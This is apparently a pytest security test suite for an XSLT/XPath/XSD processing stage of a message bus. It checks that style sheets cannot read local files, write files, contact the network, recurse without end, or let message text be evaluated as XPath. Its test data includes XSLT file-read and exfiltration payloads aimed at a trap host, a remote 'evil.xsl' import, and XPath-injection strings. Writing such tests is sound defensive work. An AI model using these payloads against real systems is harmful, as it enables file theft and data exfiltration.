"""XSLT, XPath and XSD: what a document or a careless style sheet asks for, it does not get.

Style sheets are ours, so the corpus tries what a careless or planted one could do: it runs under DENY_ALL. Recursion
is bounded by libxslt (3000 templates deep). Time is not: a style sheet that is exponential by itself runs as long as
it runs, and no document can bring its own.
"""

from __future__ import annotations

import itertools
import threading
from collections.abc import Callable
from pathlib import Path

import pytest
from lxml import etree
from pydantic import BaseModel

from core import stages
from core.errors import BusError, SchemaViolation, SignatureRejected, UnknownKind
from core.message import Message
from core.route import Format, Route

pytestmark = pytest.mark.feature("BUS-14")

NS = "urn:attack:pet"
SECRET = "ТАЙНА-9f4c2b"
HEAD = (
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:p="urn:attack:pet" '
    'xmlns:exsl="http://exslt.org/common" xmlns:dyn="http://exslt.org/dynamic" xmlns:func="http://exslt.org/functions" '
    'xmlns:redirect="http://xml.apache.org/xalan/redirect" xmlns:saxon="http://icl.com/saxon" '
    'xmlns:xt="http://www.jclark.com/xt" xmlns:xi="http://www.w3.org/2001/XInclude" '
    'xmlns:php="http://php.net/xsl" xmlns:java="http://xml.apache.org/xalan/java" xmlns:u="urn:u" '
    'extension-element-prefixes="exsl redirect saxon xt func" exclude-result-prefixes="p dyn php java u xi">'
)


class Pet(BaseModel):
    name: str


@pytest.fixture
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., str]:
    """Puts a document through a style sheet; whatever became of it, as text."""
    monkeypatch.setattr(stages, "HOUSE", tmp_path)
    monkeypatch.setattr(stages, "_local", threading.local())
    (tmp_path / "transformers").mkdir()

    numbers = itertools.count()  # a sheet is compiled once, so each needs a name of its own

    def transform(body: str, document: str = "Мурка", *, top: str = "") -> str:
        sheet = (
            f"{HEAD}{top}<xsl:template match='/p:Pet'><pet><name>{body}</name></pet></xsl:template></xsl:stylesheet>"
        )
        name = f"x{next(numbers)}.xsl"
        (tmp_path / "transformers" / name).write_text(sheet, encoding="utf-8")
        route = Route("pet", title="", formats=[Format("1", f"{{{NS}}}Pet", "", name)], body=Pet)
        try:
            made = stages.apply(route, Message("pet", f'<Pet xmlns="{NS}">{document}</Pet>'.encode()))
        except BusError as refused:
            return refused.reason + refused.detail
        return f"made {made.value.name}"

    return transform


READS: dict[str, str] = {
    "document() of a file": "<xsl:copy-of select=\"document('{file}')\"/>",
    "document() of the network": "<xsl:copy-of select=\"document('{url}/x')\"/>",
    "document() of a name in the message": "<xsl:copy-of select='document(string(.))'/>",
    "document() relative to the sheet": "<xsl:copy-of select=\"document('../secret.xml')\"/>",
    "unparsed-text()": "<xsl:value-of select=\"unparsed-text('{file}')\"/>",
    "dyn:evaluate of the message": "<xsl:value-of select='dyn:evaluate(.)'/>",
    "XInclude in a sheet": '<xi:include href="{file}" parse="text"/>',
    "PHP": "<xsl:value-of select=\"php:function('file_get_contents', '{file}')\"/>",
    "Java": "<xsl:value-of select=\"java:java.lang.System.getenv('HOME')\"/>",
    "system-property of the vendor": "<xsl:value-of select=\"system-property('u:HOME')\"/>",
}
WRITES: dict[str, str] = {
    "exsl:document": '<exsl:document href="{out}">{secret}</exsl:document>',
    "xsl:document": '<xsl:document href="{out}">{secret}</xsl:document>',
    "xsl:result-document": '<xsl:result-document href="{out}">{secret}</xsl:result-document>',
    "redirect:write": '<redirect:write file="{out}">{secret}</redirect:write>',
    "saxon:output": '<saxon:output file="{out}">{secret}</saxon:output>',
    "xt:document": '<xt:document href="{out}">{secret}</xt:document>',
    "exsl:document to the network": '<exsl:document href="{url}/put">{secret}</exsl:document>',
}


@pytest.mark.parametrize("name", READS)
def test_a_transform_reads_nothing_but_its_document(run, trap, tmp_path: Path, name: str) -> None:
    secret = tmp_path / "secret.xml"
    secret.write_text(f"<secret>{SECRET}</secret>", encoding="utf-8")
    document = f"document('{secret.as_uri()}')" if "evaluate" in name else secret.as_uri()
    said = run(READS[name].format(file=secret.as_uri(), url=trap.url), document)
    assert SECRET not in said
    assert not trap.contacts
    assert run("<xsl:value-of select='.'/>") == "made Мурка"


@pytest.mark.parametrize("name", WRITES)
def test_a_transform_writes_nothing(run, trap, tmp_path: Path, name: str) -> None:
    out = tmp_path / "written.txt"
    run(WRITES[name].format(out=out.as_uri(), url=trap.url, secret=SECRET) + "<xsl:value-of select='.'/>")
    run(WRITES[name].format(out=out, url=trap.url, secret=SECRET) + "<xsl:value-of select='.'/>")
    assert not out.exists()
    assert not trap.contacts
    assert run("<xsl:value-of select='.'/>") == "made Мурка"


@pytest.mark.parametrize("what", ["import", "include"])
def test_a_sheet_brings_in_no_sheet_from_the_network(run, trap, what: str) -> None:
    assert "не компилируется" in run("x", top=f'<xsl:{what} href="{trap.url}/evil.xsl"/>')
    assert not trap.contacts


@pytest.mark.parametrize(
    ("top", "body"),
    [
        ("<xsl:template name='t'><xsl:call-template name='t'/></xsl:template>", "<xsl:call-template name='t'/>"),
        (
            "<xsl:template name='t'><xsl:param name='x'/><xsl:call-template name='t'>"
            "<xsl:with-param name='x' select='concat($x, $x)'/></xsl:call-template></xsl:template>",
            "<xsl:call-template name='t'/>",
        ),
        ("<xsl:template match='*'><xsl:apply-templates select='..'/></xsl:template>", "<xsl:apply-templates/>"),
        (
            "<func:function name='u:f'><func:result select='u:f()'/></func:function>",
            "<xsl:value-of select='u:f()'/>",
        ),
    ],
    ids=["a template that calls itself", "a growing parameter", "back to the parent", "a function that calls itself"],
)
def test_an_endless_recursion_ends_with_a_refusal(run, top: str, body: str) -> None:
    assert "не выполнилось" in run(body, "<a/>", top=top)
    assert run("<xsl:value-of select='.'/>") == "made Мурка"


def test_a_document_brings_no_sheet_of_its_own(run, trap) -> None:
    sheet = f'<xsl:template xmlns:xsl="http://www.w3.org/1999/XSL/Transform" match="*">{SECRET}</xsl:template>'
    assert run("<xsl:value-of select='p:Name'/>", f"{sheet}<Name>Мурка</Name>") == "made Мурка"
    assert not trap.contacts


HOSTILE = ["' or '1'='1", '" or "1"="1', "']|//*|//*['", "x]", "$value", "concat('a',\"b\")", "\x85/../..", "*"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_in_a_message_is_never_part_of_an_expression(run, text: str) -> None:
    from xml.sax.saxutils import escape

    said = run("<xsl:value-of select='//*[@id = current()/@q or . = string(current())]'/>", escape(text))
    assert said == f"made {text}"


@pytest.mark.parametrize("text", HOSTILE)
def test_an_id_in_a_signature_is_looked_for_and_not_evaluated(text: str) -> None:
    from core.signatures.xmldsig import element_by_id

    root = etree.fromstring("<a xmlns='urn:a' Id='one'><b Id='two'/></a>")
    with pytest.raises(SignatureRejected, match="Элемента с таким Id"):
        element_by_id(root, text)
    root[0].set("Id", text)
    assert element_by_id(root, text) is root[0]


def test_a_reason_quotes_no_name_of_any_length() -> None:
    route = Route("pet", title="", formats=[Format("1", f"{{{NS}}}Pet")])
    with pytest.raises(UnknownKind) as refused:
        stages.apply(route, Message("pet", b"<" + b"a" * 40_000 + b"/>"))
    assert len(refused.value.reason) < 1000


@pytest.mark.parametrize("prefix", ["p", "pp"])
def test_a_violation_in_a_long_name_is_told_though_its_path_is_cut(tmp_path: Path, monkeypatch, prefix: str) -> None:
    """libxml2 cuts a name after 99 octets: with one of the prefixes in the middle of a letter."""
    monkeypatch.setattr(stages, "HOUSE", tmp_path)
    monkeypatch.setattr(stages, "_local", threading.local())
    (tmp_path / "schemas").mkdir()
    (tmp_path / "schemas" / "x.xsd").write_text(
        f'<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="{NS}"><xs:element name="Pet">'
        '<xs:complexType><xs:sequence><xs:element name="a"/></xs:sequence></xs:complexType></xs:element></xs:schema>',
        encoding="utf-8",
    )
    route = Route("pet", title="", formats=[Format("1", f"{{{NS}}}Pet", "x.xsd")])
    document = f'<{prefix}:Pet xmlns:{prefix}="{NS}"><{prefix}:{"Ж" * 100}/></{prefix}:Pet>'
    with pytest.raises(SchemaViolation, match=r"строка 1, Pet"):
        stages.apply(route, Message("pet", document.encode()))
